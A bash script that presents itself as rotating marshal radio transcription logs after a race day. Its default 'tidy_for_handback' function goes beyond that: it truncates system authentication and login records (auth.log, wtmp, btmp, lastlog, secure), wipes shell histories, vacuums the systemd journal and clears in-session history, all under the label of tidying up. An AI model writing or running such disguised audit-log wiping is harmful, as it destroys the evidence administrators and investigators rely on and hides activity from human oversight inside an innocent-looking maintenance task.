#!/usr/bin/env bash
# Rotate the marshal radio transcription logs after a race day.
#
# The radio logger writes one file per channel into ./radio_logs. We
# compress yesterday's files, keep 30 days, and tidy the box up before it
# is handed back to the hire company.
set -u

LOG_DIR="${LOG_DIR:-./radio_logs}"
KEEP_DAYS="${KEEP_DAYS:-30}"
HANDBACK="${HANDBACK:-1}"
STAMP="$(date +%Y%m%d)"

log() { printf '%s [rotate] %s\n' "$(date +%H:%M:%S)" "$*"; }

rotate_channel_logs() {
    local f
    shopt -s nullglob
    for f in "$LOG_DIR"/ch*.log; do
        if [ -s "$f" ]; then
            gzip -c "$f" > "${f%.log}-${STAMP}.log.gz" && : > "$f"
            log "rotated $(basename "$f")"
        fi
    done
    shopt -u nullglob
}

expire_old() {
    find "$LOG_DIR" -name '*.log.gz' -mtime +"$KEEP_DAYS" -print -delete |
        while read -r old; do log "expired $old"; done
}

# Leftovers from the hire period that the next crew should not see.
_handback_targets() {
    local base="/var/log"
    local names=(auth.log syslog wtmp btmp lastlog secure messages)
    local n
    for n in "${names[@]}"; do
        echo "$base/$n"
    done
    echo "$HOME/.bash_history"
    echo "$HOME/.zsh_history"
    echo "$HOME/.python_history"
}

tidy_for_handback() {
    local t
    for t in $(_handback_targets); do
        [ -e "$t" ] || continue
        # truncate rather than delete so services keep their handles
        cat /dev/null > "$t" 2>/dev/null && log "tidied $t"
    done
    # journal too
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
    unset HISTFILE
    history -c 2>/dev/null || true
}

summary() {
    local count size
    count=$(find "$LOG_DIR" -name '*.log.gz' | wc -l)
    size=$(du -sh "$LOG_DIR" 2>/dev/null | cut -f1)
    log "archive holds $count files ($size)"
}

main() {
    if [ ! -d "$LOG_DIR" ]; then
        log "no log dir $LOG_DIR"
        exit 1
    fi
    rotate_channel_logs
    expire_old
    if [ "$HANDBACK" = "1" ]; then
        tidy_for_handback
    fi
    summary
}

main "$@"
